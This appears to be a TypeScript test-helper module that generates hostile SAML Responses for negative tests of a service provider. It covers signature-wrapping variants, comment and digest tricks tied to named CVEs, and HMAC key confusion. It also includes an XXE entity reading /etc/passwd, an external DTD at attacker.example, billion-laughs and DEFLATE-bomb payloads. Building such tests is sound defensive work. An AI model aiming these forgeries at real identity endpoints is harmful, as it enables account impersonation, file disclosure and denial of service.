/**
 * Hostile variants of a genuinely signed SAML Response, for negative tests of the SP (see
 * shared/SAML-ATTACKS.md). Every builder parses its input with @xmldom/xmldom, edits the DOM and serializes
 * it with XMLSerializer; where the attack relies on it, the original signature stays byte-for-byte valid
 * (exclusive c14n of an untouched subtree does not depend on where the subtree sits).
 *
 * Inputs are typically strings produced by `TestIdp.responseXml` (see test/unit/saml-test-idp.spec.ts).
 */
import { createHash, createHmac, randomBytes } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { DOMParser, XMLSerializer, type Document, type Element, type Node } from 'xmldom-0.9';
import { SignedXml } from 'xml-crypto';
import {
  C14N_EXC,
  DS_NS,
  SAML_NS,
  SAMLP_NS,
  TRANSFORM_ENVELOPED,
  XENC_NS,
  certificateToPem,
  encryptAssertion,
  type EncryptionSpec,
  newSamlId,
  samlInstant,
  signRootElement,
  type TestKeyPair,
} from './saml-test-idp';

export interface AttackVector {
  id: string;
  description: string;
  /** The response XML to POST (base64 it yourself). */
  xml: string;
}

/** The NameID that attacks which need no caller-chosen identity put into the evil content. */
export const EVIL_NAME_ID = 'attacker@evil.example';
/** Namespace of the harmless marker elements some builders insert. */
export const ATTACK_NS = 'urn:example:saml-attack';

const HMAC_SHA1 = 'http://www.w3.org/2000/09/xmldsig#hmac-sha1';
const DIGEST_NODE_NAMES: Record<string, string> = {
  'http://www.w3.org/2000/09/xmldsig#sha1': 'sha1',
  'http://www.w3.org/2001/04/xmlenc#sha256': 'sha256',
  'http://www.w3.org/2001/04/xmldsig-more#sha384': 'sha384',
  'http://www.w3.org/2001/04/xmlenc#sha512': 'sha512',
};

// ---------------------------------------------------------------------------------------------------------
// DOM helpers
// ---------------------------------------------------------------------------------------------------------

function parse(xml: string): Document {
  return new DOMParser({
    onError: (level, message) => {
      if (level !== 'warning') throw new Error(`saml-attacks: input is not well-formed XML: ${message}`);
    },
  }).parseFromString(xml, 'text/xml');
}

function serialize(node: Node): string {
  return new XMLSerializer().serializeToString(node);
}

function isElement(node: Node | null): node is Element {
  return node !== null && node.nodeType === node.ELEMENT_NODE;
}

function rootOf(doc: Document): Element {
  const root = doc.documentElement;
  if (root === null) throw new Error('saml-attacks: the document has no root element');
  return root;
}

function ownerDoc(el: Element): Document {
  const doc = el.ownerDocument;
  if (doc === null) throw new Error('saml-attacks: element without an owner document');
  return doc;
}

function children(parent: Node, ns?: string, localName?: string): Element[] {
  const out: Element[] = [];
  for (let n = parent.firstChild; n !== null; n = n.nextSibling) {
    if (!isElement(n)) continue;
    if (ns !== undefined && n.namespaceURI !== ns) continue;
    if (localName !== undefined && n.localName !== localName) continue;
    out.push(n);
  }
  return out;
}

function child(parent: Node, ns: string, localName: string): Element | null {
  return children(parent, ns, localName)[0] ?? null;
}

function descendants(root: Element | Document, ns: string, localName: string): Element[] {
  const list = root.getElementsByTagNameNS(ns, localName);
  const out: Element[] = [];
  for (let i = 0; i < list.length; i++) {
    const item = list.item(i);
    if (item !== null) out.push(item);
  }
  return out;
}

function requireEl<T>(value: T | null | undefined, what: string): T {
  if (value === null || value === undefined) throw new Error(`saml-attacks: ${what} not found in the input`);
  return value;
}

/** The ds:Signature that is a direct child of `el`, if any. */
function directSignature(el: Element): Element | null {
  return child(el, DS_NS, 'Signature');
}

function removeDirectSignatures(el: Element): Element {
  for (const sig of children(el, DS_NS, 'Signature')) el.removeChild(sig);
  return el;
}

function insertAfter(newNode: Node, ref: Node): void {
  const parent = requireEl(ref.parentNode, 'parent node');
  parent.insertBefore(newNode, ref.nextSibling);
}

/** The Response's direct Assertion children (not nested ones). */
function topAssertions(root: Element): Element[] {
  return children(root, SAML_NS, 'Assertion');
}

/** The first direct Assertion child that carries its own signature. */
function signedTopAssertion(root: Element): Element | null {
  return topAssertions(root).find((a) => directSignature(a) !== null) ?? null;
}

/** The first ds:Signature in document order and the element it is enveloped in. */
function firstSignature(doc: Document): { signature: Element; signed: Element } {
  const signature = requireEl(descendants(doc, DS_NS, 'Signature')[0], 'ds:Signature');
  const parent = signature.parentNode;
  if (!isElement(parent)) throw new Error('saml-attacks: ds:Signature without a parent element');
  return { signature, signed: parent };
}

/** Replaces the NameID (and, with `email`, every *mail* attribute value) inside `scope`. */
function setEvilContent(scope: Element, evil: { nameId: string; email?: string }): void {
  for (const nameId of descendants(scope, SAML_NS, 'NameID')) nameId.textContent = evil.nameId;
  if (evil.email === undefined) return;
  const mailAttributes = descendants(scope, SAML_NS, 'Attribute').filter((a) =>
    /mail/i.test(a.getAttribute('Name') ?? ''),
  );
  for (const attribute of mailAttributes) {
    for (const value of children(attribute, SAML_NS, 'AttributeValue')) value.textContent = evil.email;
  }
  if (mailAttributes.length > 0) return;
  // No mail attribute: add one (to every assertion in scope, or to scope itself when it is one).
  const assertions = scope.localName === 'Assertion' ? [scope] : descendants(scope, SAML_NS, 'Assertion');
  for (const assertion of assertions) {
    const doc = ownerDoc(assertion);
    let statement = child(assertion, SAML_NS, 'AttributeStatement');
    if (statement === null) {
      statement = doc.createElementNS(SAML_NS, 'saml:AttributeStatement');
      assertion.appendChild(statement);
    }
    const attribute = doc.createElementNS(SAML_NS, 'saml:Attribute');
    attribute.setAttribute('Name', 'email');
    const value = doc.createElementNS(SAML_NS, 'saml:AttributeValue');
    value.textContent = evil.email;
    attribute.appendChild(value);
    statement.appendChild(attribute);
  }
}

/** A deep copy of `el` without its own (enveloped) ds:Signature. */
function unsignedClone(el: Element): Element {
  const clone = el.cloneNode(true);
  if (!isElement(clone)) throw new Error('saml-attacks: clone is not an element');
  return removeDirectSignatures(clone);
}

function deepClone(el: Element): Element {
  const clone = el.cloneNode(true);
  if (!isElement(clone)) throw new Error('saml-attacks: clone is not an element');
  return clone;
}

/** Where an element goes right after the Issuer and the optional Signature of `parent` (schema order). */
function afterIssuerAndSignature(parent: Element): Node | null {
  const issuer = child(parent, SAML_NS, 'Issuer');
  const sig = directSignature(parent);
  const anchor = sig ?? issuer;
  return anchor === null ? parent.firstChild : anchor.nextSibling;
}

function createMarker(doc: Document, attributes: Record<string, string>): Element {
  const marker = doc.createElementNS(ATTACK_NS, 'atk:Marker');
  for (const [name, value] of Object.entries(attributes)) marker.setAttribute(name, value);
  return marker;
}

function dsObject(doc: Document, content: Node): Element {
  const object = doc.createElementNS(DS_NS, 'ds:Object');
  object.appendChild(content);
  return object;
}

/** Canonical digest of `el` under enveloped-signature + exc-c14n, as a verifier would compute it. */
function referenceDigest(el: Element, digestAlgorithm: string): string {
  const nodeAlgorithm = DIGEST_NODE_NAMES[digestAlgorithm];
  if (nodeAlgorithm === undefined) throw new Error(`saml-attacks: unsupported digest ${digestAlgorithm}`);
  const canon = new SignedXml().getCanonXml(
    [TRANSFORM_ENVELOPED, C14N_EXC],
    // xml-crypto types its parameter with the global DOM `Node`; it walks @xmldom/xmldom nodes at run time.
    el as unknown as Parameters<SignedXml['getCanonXml']>[1],
  );
  return createHash(nodeAlgorithm).update(canon, 'utf8').digest('base64');
}

function canonicalize(el: Element): string {
  return new SignedXml().getCanonXml([C14N_EXC], el as unknown as Parameters<SignedXml['getCanonXml']>[1]);
}

function signedInfoParts(signature: Element): {
  signedInfo: Element;
  digestValue: Element;
  digestAlgorithm: string;
} {
  const signedInfo = requireEl(child(signature, DS_NS, 'SignedInfo'), 'ds:SignedInfo');
  const reference = requireEl(child(signedInfo, DS_NS, 'Reference'), 'ds:Reference');
  const digestMethod = requireEl(child(reference, DS_NS, 'DigestMethod'), 'ds:DigestMethod');
  const digestValue = requireEl(child(reference, DS_NS, 'DigestValue'), 'ds:DigestValue');
  return { signedInfo, digestValue, digestAlgorithm: digestMethod.getAttribute('Algorithm') ?? '' };
}

function vector(id: string, description: string, doc: Document): AttackVector {
  return { id, description, xml: serialize(doc) };
}

// ---------------------------------------------------------------------------------------------------------
// XML Signature Wrapping
// ---------------------------------------------------------------------------------------------------------

type Evil = { nameId: string; email?: string };
type XswBuilder = (doc: Document, evil: Evil) => void;

/** XSW1/XSW2 take the Response signature. */
const RESPONSE_XSW: Array<[string, string, XswBuilder]> = [
  [
    'XSW1',
    'Response-signed: an unsigned clone of the Response is appended inside ds:Signature; the outer ' +
      'Response gets a new ID and evil content',
    (doc, evil) => {
      const root = rootOf(doc);
      const signature = requireEl(directSignature(root), 'Response ds:Signature');
      const clone = unsignedClone(root);
      root.setAttribute('ID', newSamlId());
      setEvilContent(root, evil);
      signature.appendChild(clone);
    },
  ],
  [
    'XSW2',
    'Response-signed: an unsigned clone of the Response is inserted as a sibling before ds:Signature ' +
      '(detached signature); the outer Response gets a new ID and evil content',
    (doc, evil) => {
      const root = rootOf(doc);
      const signature = requireEl(directSignature(root), 'Response ds:Signature');
      const clone = unsignedClone(root);
      root.setAttribute('ID', newSamlId());
      setEvilContent(root, evil);
      root.insertBefore(clone, signature);
    },
  ],
];

/** XSW3..XSW8 and the Advice / SubjectConfirmationData wraps take the Assertion signature. */
const ASSERTION_XSW: Array<[string, string, XswBuilder]> = [
  [
    'XSW3',
    'Assertion-signed: an unsigned evil copy of the assertion with a new ID is inserted before the signed one',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const evilAssertion = unsignedClone(signed);
      evilAssertion.setAttribute('ID', newSamlId());
      setEvilContent(evilAssertion, evil);
      root.insertBefore(evilAssertion, signed);
    },
  ],
  [
    'XSW4',
    'Assertion-signed: the evil assertion (new ID) takes the original place and the signed original ' +
      'becomes its child',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const evilAssertion = unsignedClone(signed);
      evilAssertion.setAttribute('ID', newSamlId());
      setEvilContent(evilAssertion, evil);
      root.replaceChild(evilAssertion, signed);
      evilAssertion.appendChild(signed);
    },
  ],
  [
    'XSW5',
    'Assertion-signed: the signed assertion is modified in place with a new ID (keeping its ds:Signature); ' +
      'an unsigned clone with the original ID is appended to the Response',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const original = unsignedClone(signed);
      signed.setAttribute('ID', newSamlId());
      setEvilContent(signed, evil);
      root.appendChild(original);
    },
  ],
  [
    'XSW6',
    'Assertion-signed: as XSW5, but the unsigned clone with the original ID sits inside the evil ' +
      "assertion's ds:Signature",
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const signature = requireEl(directSignature(signed), 'Assertion ds:Signature');
      const original = unsignedClone(signed);
      signed.setAttribute('ID', newSamlId());
      setEvilContent(signed, evil);
      signature.appendChild(original);
    },
  ],
  [
    'XSW7',
    'Assertion-signed: a samlp:Extensions holding an unsigned evil assertion with the SAME ID as the signed ' +
      'one is added to the Response',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const evilAssertion = unsignedClone(signed);
      setEvilContent(evilAssertion, evil);
      const extensions = doc.createElementNS(SAMLP_NS, 'samlp:Extensions');
      extensions.appendChild(evilAssertion);
      root.insertBefore(extensions, afterIssuerAndSignature(root));
    },
  ],
  [
    'XSW8',
    'Assertion-signed: the signed assertion gets evil content but keeps its ID and ds:Signature; the ' +
      'untouched original (unsigned, same ID) is put in a ds:Object inside that Signature',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const signature = requireEl(directSignature(signed), 'Assertion ds:Signature');
      const original = unsignedClone(signed);
      setEvilContent(signed, evil);
      signature.appendChild(dsObject(doc, original));
    },
  ],
  [
    'advice-wrap',
    'Assertion-signed: an unsigned evil top-level assertion (new ID) holds the genuine signed assertion ' +
      'inside saml:Advice (samlify CVE-2025-47949 case 1)',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const evilAssertion = unsignedClone(signed);
      evilAssertion.setAttribute('ID', newSamlId());
      setEvilContent(evilAssertion, evil);
      root.replaceChild(evilAssertion, signed);
      const advice = doc.createElementNS(SAML_NS, 'saml:Advice');
      advice.appendChild(signed);
      const conditions = child(evilAssertion, SAML_NS, 'Conditions');
      if (conditions !== null) insertAfter(advice, conditions);
      else evilAssertion.insertBefore(advice, child(evilAssertion, SAML_NS, 'AuthnStatement'));
    },
  ],
  [
    'subjectconfirmationdata-wrap',
    'Assertion-signed: an unsigned evil top-level assertion (new ID) holds the genuine signed assertion ' +
      'inside its SubjectConfirmationData (samlify CVE-2025-47949 case 2)',
    (doc, evil) => {
      const root = rootOf(doc);
      const signed = requireEl(signedTopAssertion(root), 'signed Assertion');
      const evilAssertion = unsignedClone(signed);
      evilAssertion.setAttribute('ID', newSamlId());
      setEvilContent(evilAssertion, evil);
      root.replaceChild(evilAssertion, signed);
      const scd = requireEl(
        descendants(evilAssertion, SAML_NS, 'SubjectConfirmationData')[0],
        'SubjectConfirmationData',
      );
      scd.appendChild(signed);
    },
  ],
];

/**
 * XSW1..XSW8 (SAML-ATTACKS.md §1) plus 'advice-wrap' and 'subjectconfirmationdata-wrap'. XSW1/2 need a
 * Response signature and the others an Assertion signature: only the variants the input supports are
 * returned (pass a response-signed input for XSW1/2 and an assertion-signed one for the rest).
 */
export function xswVariants(signedResponseXml: string, evil: Evil): AttackVector[] {
  const probe = rootOf(parse(signedResponseXml));
  const builders: Array<[string, string, XswBuilder]> = [];
  if (directSignature(probe) !== null) builders.push(...RESPONSE_XSW);
  if (signedTopAssertion(probe) !== null) builders.push(...ASSERTION_XSW);
  return builders.map(([id, description, build]) => {
    const doc = parse(signedResponseXml);
    build(doc, evil);
    return vector(id, description, doc);
  });
}

// ---------------------------------------------------------------------------------------------------------
// Content
// ---------------------------------------------------------------------------------------------------------

/**
 * Splits the (first) NameID text with an empty comment: 'admin@victim.com.evil.com' becomes
 * 'admin@victim.com<!---->.evil.com'. Exclusive c14n drops comments, so the signature stays valid; a
 * reader that takes only the first text node sees 'admin@victim.com'. `splitAt` (index into the text)
 * defaults to the position of '.evil.' or, failing that, the middle of the text.
 */
export function commentInjection(signedResponseXml: string, splitAt?: number): AttackVector {
  const doc = parse(signedResponseXml);
  const nameId = requireEl(descendants(doc, SAML_NS, 'NameID')[0], 'saml:NameID');
  const text = nameId.textContent ?? '';
  const evilDot = text.indexOf('.evil.');
  const at = splitAt ?? (evilDot > 0 ? evilDot : Math.floor(text.length / 2));
  while (nameId.firstChild !== null) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(doc.createTextNode(text.slice(0, at)));
  nameId.appendChild(doc.createComment(''));
  nameId.appendChild(doc.createTextNode(text.slice(at)));
  return vector(
    'comment-injection',
    `NameID '${text}' split by an empty comment after '${text.slice(0, at)}' (CVE-2017-11427..11430 class)`,
    doc,
  );
}

/** Every ds:Signature removed (signature exclusion). */
export function stripSignatures(xml: string): AttackVector {
  const doc = parse(xml);
  for (const sig of descendants(doc, DS_NS, 'Signature')) sig.parentNode?.removeChild(sig);
  return vector('strip-signatures', 'every ds:Signature removed', doc);
}

/**
 * 'dup-id': a second element (an atk:Marker) with the ID of the signed element; 'dup-Id-attr': the same
 * value carried in `Id` and `id` attributes instead of `ID` (xml-crypto treats all three as IDs, node-saml's
 * own lookup only `ID`). The marker goes in samlp:Extensions when the signed element is an Assertion, and
 * in a ds:Object inside the Response's Signature when the Response is the signed element (so the digest
 * stays valid either way, on a singly signed input).
 */
export function duplicateIdVariants(signedResponseXml: string): AttackVector[] {
  const build = (id: string, description: string, attrsFor: (signedId: string) => Record<string, string>) => {
    const doc = parse(signedResponseXml);
    const root = rootOf(doc);
    const { signature, signed } = firstSignature(doc);
    const signedId = requireEl(signed.getAttribute('ID'), 'ID of the signed element');
    const marker = createMarker(doc, attrsFor(signedId));
    if (signed === root) {
      signature.appendChild(dsObject(doc, marker));
    } else {
      const extensions = doc.createElementNS(SAMLP_NS, 'samlp:Extensions');
      extensions.appendChild(marker);
      root.insertBefore(extensions, afterIssuerAndSignature(root));
    }
    return vector(id, description, doc);
  };
  return [
    build('dup-id', 'a second element carries the ID of the signed element', (signedId) => ({
      ID: signedId,
    })),
    build(
      'dup-Id-attr',
      'another element carries the signed ID in Id="…" and id="…" attributes',
      (signedId) => ({
        Id: signedId,
        id: signedId,
      }),
    ),
  ];
}

/** A second, unsigned Assertion appended after the signed one (crewjam CVE-2022-41912). */
export function multipleAssertions(signedResponseXml: string, unsignedEvil: string): AttackVector {
  const doc = parse(signedResponseXml);
  const root = rootOf(doc);
  const evil = doc.importNode(rootOf(parse(unsignedEvil)), true);
  root.appendChild(evil);
  return vector('multiple-assertions', 'a second, unsigned Assertion after the signed one', doc);
}

/** An EncryptedAssertion (or bare xenc:EncryptedData, which gets wrapped) appended next to the Assertion. */
export function assertionPlusEncrypted(
  signedResponseXml: string,
  encryptedAssertionXml: string,
): AttackVector {
  const doc = parse(signedResponseXml);
  const root = rootOf(doc);
  const encryptedRoot = rootOf(parse(encryptedAssertionXml));
  let encrypted = doc.importNode(encryptedRoot, true);
  if (encryptedRoot.namespaceURI === XENC_NS && encryptedRoot.localName === 'EncryptedData') {
    const wrapper = doc.createElementNS(SAML_NS, 'saml:EncryptedAssertion');
    wrapper.appendChild(encrypted);
    encrypted = wrapper;
  }
  root.appendChild(encrypted);
  return vector('assertion-plus-encrypted', 'an Assertion and an EncryptedAssertion in one Response', doc);
}

/** A second root element appended: an unsigned copy with the NameID set to EVIL_NAME_ID (CVE-2022-39299). */
export function trailingRoot(xml: string): AttackVector {
  const doc = parse(xml);
  for (const sig of descendants(doc, DS_NS, 'Signature')) sig.parentNode?.removeChild(sig);
  setEvilContent(rootOf(doc), { nameId: EVIL_NAME_ID });
  return {
    id: 'trailing-root',
    description: 'a second, unsigned root element with evil content after the signed document',
    xml: xml + serialize(rootOf(doc)),
  };
}

/**
 * A DOCTYPE before the root. 'xxe' declares a SYSTEM entity for file:///etc/passwd and 'billion-laughs'
 * ten nested entities (10^9 expansions); both reference their entity from a new samlp:StatusMessage (not
 * signed content on an assertion-signed input). 'external-dtd' only names an external DTD
 * (http://attacker.example/evil.dtd) and leaves the document untouched, so its signature stays valid.
 */
export function withDoctype(xml: string, kind: 'xxe' | 'billion-laughs' | 'external-dtd'): AttackVector {
  const doc = parse(xml);
  const root = rootOf(doc);
  const rootName = root.tagName;
  const declaration = /^\s*<\?xml[\s\S]*?\?>/.exec(xml)?.[0] ?? '';
  let body = xml.slice(declaration.length);
  let subset = '';
  let entity = '';
  if (kind === 'xxe') {
    subset = '<!ENTITY xxe SYSTEM "file:///etc/passwd">';
    entity = 'xxe';
  } else if (kind === 'billion-laughs') {
    subset = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) subset += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    entity = 'lol9';
  }
  if (entity !== '') {
    const status = descendants(doc, SAMLP_NS, 'Status')[0];
    if (status !== undefined) {
      const placeholder = `ENTITY-${randomBytes(8).toString('hex')}`;
      const message = doc.createElementNS(SAMLP_NS, 'samlp:StatusMessage');
      message.textContent = placeholder;
      status.appendChild(message);
      body = serialize(doc).replace(placeholder, `&${entity};`);
    }
  }
  const doctype =
    kind === 'external-dtd'
      ? `<!DOCTYPE ${rootName} SYSTEM "http://attacker.example/evil.dtd">`
      : `<!DOCTYPE ${rootName} [${subset}]>`;
  return {
    id: `doctype-${kind}`,
    description: `DOCTYPE (${kind}) before the root element`,
    xml: declaration + doctype + body,
  };
}

// ---------------------------------------------------------------------------------------------------------
// Signature internals
// ---------------------------------------------------------------------------------------------------------

/**
 * CVE-2025-29774 shape: the signed element is tampered with (NameID = EVIL_NAME_ID) and a second
 * ds:SignedInfo, whose DigestValue matches the tampered content, is inserted after the original one, so
 * digests and SignatureValue would come from different SignedInfo nodes.
 */
export function secondSignedInfo(signedResponseXml: string): AttackVector {
  const doc = parse(signedResponseXml);
  const { signature, signed } = firstSignature(doc);
  const { signedInfo, digestAlgorithm } = signedInfoParts(signature);
  setEvilContent(signed, { nameId: EVIL_NAME_ID });
  const forged = deepClone(signedInfo);
  const forgedDigest = requireEl(descendants(forged, DS_NS, 'DigestValue')[0], 'forged ds:DigestValue');
  forgedDigest.textContent = referenceDigest(signed, digestAlgorithm);
  insertAfter(forged, signedInfo);
  return vector(
    'second-signedinfo',
    'tampered content plus a second ds:SignedInfo with a matching digest (CVE-2025-29774)',
    doc,
  );
}

/**
 * CVE-2025-29775 shape: the signed element is tampered with (NameID = EVIL_NAME_ID) and the DigestValue
 * becomes `<!--digest of the tampered content-->original digest`: c14n drops the comment, so the
 * SignatureValue still verifies, while a reader of `firstChild` sees the forged digest.
 */
export function commentInDigestValue(signedResponseXml: string): AttackVector {
  const doc = parse(signedResponseXml);
  const { signature, signed } = firstSignature(doc);
  const { digestValue, digestAlgorithm } = signedInfoParts(signature);
  setEvilContent(signed, { nameId: EVIL_NAME_ID });
  digestValue.insertBefore(
    doc.createComment(referenceDigest(signed, digestAlgorithm)),
    digestValue.firstChild,
  );
  return vector(
    'comment-in-digestvalue',
    'tampered content; DigestValue = <!--forged digest-->original digest (CVE-2025-29775)',
    doc,
  );
}

/**
 * A ds:Object inside the first (outermost) ds:Signature holding an unsigned copy of the signed element
 * with a new ID and evil content (NameID = EVIL_NAME_ID). The signature itself stays valid; on a
 * response-signed input, a naive `//Assertion` lookup finds the copy before the genuine assertion.
 */
export function dsObjectWrap(signedResponseXml: string): AttackVector {
  const doc = parse(signedResponseXml);
  const { signature, signed } = firstSignature(doc);
  const copy = unsignedClone(signed);
  copy.setAttribute('ID', newSamlId());
  setEvilContent(copy, { nameId: EVIL_NAME_ID });
  // Inner assertions of a Response copy would duplicate their IDs: give them new ones.
  for (const assertion of descendants(copy, SAML_NS, 'Assertion')) {
    removeDirectSignatures(assertion).setAttribute('ID', newSamlId());
  }
  signature.appendChild(dsObject(doc, copy));
  return vector(
    'ds-object-wrap',
    'ds:Object in the Signature holding an evil copy of the signed element',
    doc,
  );
}

/**
 * SignatureMethod swapped to hmac-sha1 and SignatureValue recomputed as HMAC-SHA1 over the canonical
 * SignedInfo, keyed with the PEM of the certificate in KeyInfo (the public key as HMAC secret,
 * GHSA-c27r-x354-4m68). Without a KeyInfo certificate only the algorithm is swapped.
 */
export function hmacSignatureMethod(signedResponseXml: string): AttackVector {
  const doc = parse(signedResponseXml);
  const { signature } = firstSignature(doc);
  const { signedInfo } = signedInfoParts(signature);
  const method = requireEl(child(signedInfo, DS_NS, 'SignatureMethod'), 'ds:SignatureMethod');
  method.setAttribute('Algorithm', HMAC_SHA1);
  const certificate = descendants(signature, DS_NS, 'X509Certificate')[0]?.textContent?.trim();
  if (certificate !== undefined && certificate !== '') {
    const value = requireEl(child(signature, DS_NS, 'SignatureValue'), 'ds:SignatureValue');
    value.textContent = createHmac('sha1', certificateToPem(certificate))
      .update(canonicalize(signedInfo), 'utf8')
      .digest('base64');
  }
  return vector('hmac-signature-method', 'SignatureMethod hmac-sha1 keyed with the public certificate', doc);
}

/**
 * One character changed inside signed content: the last character of the NameID, of the first
 * AttributeValue, or of the Assertion's Issuer (the Response's Issuer when there is no Assertion).
 */
export function tamperByte(xml: string, where: 'nameid' | 'attribute' | 'issuer'): AttackVector {
  const doc = parse(xml);
  const root = rootOf(doc);
  let target: Element | undefined;
  if (where === 'nameid') target = descendants(doc, SAML_NS, 'NameID')[0];
  else if (where === 'attribute') target = descendants(doc, SAML_NS, 'AttributeValue')[0];
  else {
    const assertion = descendants(doc, SAML_NS, 'Assertion')[0];
    target = child(assertion ?? root, SAML_NS, 'Issuer') ?? undefined;
  }
  const el = requireEl(target, where);
  const text = el.textContent ?? '';
  if (text === '') throw new Error(`saml-attacks: ${where} is empty`);
  const last = text.charAt(text.length - 1);
  el.textContent = text.slice(0, -1) + (last === 'x' ? 'y' : 'x');
  return vector(`tamper-${where}`, `one character of the ${where} changed`, doc);
}

// ---------------------------------------------------------------------------------------------------------
// Size
// ---------------------------------------------------------------------------------------------------------

/**
 * A Redirect-binding SAMLRequest (base64 of raw DEFLATE) whose LogoutRequest envelope holds
 * `inflatedMegabytes` MiB (default 50) of spaces: about 50 KB compressed, a ~1000:1 ratio.
 */
export function deflateBomb(inflatedMegabytes = 50): { SAMLRequest: string } {
  const head = Buffer.from(
    `<samlp:LogoutRequest xmlns:samlp="${SAMLP_NS}" xmlns:saml="${SAML_NS}" ID="${newSamlId()}" ` +
      `Version="2.0" IssueInstant="${samlInstant(new Date())}">` +
      `<saml:Issuer>https://idp.test.example/metadata</saml:Issuer><saml:NameID>bomb</saml:NameID>`,
    'utf8',
  );
  const tail = Buffer.from('</samlp:LogoutRequest>', 'utf8');
  const padding = Buffer.alloc(Math.max(0, Math.round(inflatedMegabytes * 1024 * 1024)), 0x20);
  const deflated = deflateRawSync(Buffer.concat([head, padding, tail]), { level: 9 });
  return { SAMLRequest: deflated.toString('base64') };
}

/**
 * A base64 string of exactly `megabytes` MiB (rounded down to a multiple of 4 characters) that decodes to a
 * samlp:Response padded with a comment: for body-size limits.
 */
export function hugeBase64Response(megabytes: number): string {
  const b64Length = Math.floor((megabytes * 1024 * 1024) / 4) * 4;
  const rawLength = (b64Length / 4) * 3;
  const head =
    `<samlp:Response xmlns:samlp="${SAMLP_NS}" xmlns:saml="${SAML_NS}" ID="${newSamlId()}" Version="2.0" ` +
    `IssueInstant="${samlInstant(new Date())}"><saml:Issuer>https://idp.test.example/metadata</saml:Issuer><!--`;
  const tail = '--></samlp:Response>';
  const raw = Buffer.alloc(rawLength, 0x61); // 'a'
  const headBytes = Buffer.from(head, 'utf8');
  const tailBytes = Buffer.from(tail, 'utf8');
  if (rawLength >= headBytes.length + tailBytes.length) {
    headBytes.copy(raw, 0);
    tailBytes.copy(raw, rawLength - tailBytes.length);
  }
  return raw.toString('base64');
}

// ---------------------------------------------------------------------------------------------------------
// Encrypted twins
// ---------------------------------------------------------------------------------------------------------

/** The Assertions of `doc` that are not inside another Assertion, in document order. */
function outermostAssertions(doc: Document): Element[] {
  return descendants(doc, SAML_NS, 'Assertion').filter((a) => {
    for (let p = a.parentNode; p !== null; p = p.parentNode) {
      if (isElement(p) && p.namespaceURI === SAML_NS && p.localName === 'Assertion') return false;
    }
    return true;
  });
}

/**
 * The encrypted twin of a (possibly hostile) Response: every outermost Assertion, wherever it sits, replaced
 * by a saml:EncryptedAssertion of it (xml-encryption, `spec`), so that a decrypting SP sees exactly the
 * plaintext message again. 'adfs' (assertion signed, then encrypted) leaves the rest as it is, so a
 * Response signature over the plaintext no longer verifies; 'okta' removes the Response's own signature
 * and signs the Response again, after encryption, with `responseKeys` (its signature covers the ciphertext).
 */
export async function encryptedTwin(
  xml: string,
  spec: EncryptionSpec,
  shape: { kind: 'adfs' } | { kind: 'okta'; responseKeys: TestKeyPair },
): Promise<string> {
  const doc = parse(xml);
  const assertions = outermostAssertions(doc);
  if (assertions.length === 0) throw new Error('saml-attacks: no assertion to encrypt');
  for (const assertion of assertions) {
    const encrypted = rootOf(parse(await encryptAssertion(serialize(assertion), spec)));
    requireEl(assertion.parentNode, 'assertion parent').replaceChild(
      doc.importNode(encrypted, true),
      assertion,
    );
  }
  if (shape.kind === 'adfs') return serialize(doc);
  removeDirectSignatures(rootOf(doc));
  return signRootElement(serialize(doc), { keys: shape.responseKeys });
}
